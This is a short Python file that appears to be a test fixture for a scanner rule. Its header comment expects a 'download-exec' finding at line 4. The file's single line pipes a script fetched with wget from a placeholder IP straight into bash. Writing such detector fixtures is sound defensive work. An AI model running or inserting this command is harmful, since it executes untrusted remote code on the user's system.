# expect: download-exec 4:17
import subprocess

subprocess.run("wget -qO- http://203.0.113.7/i.sh | bash -s", shell=True)
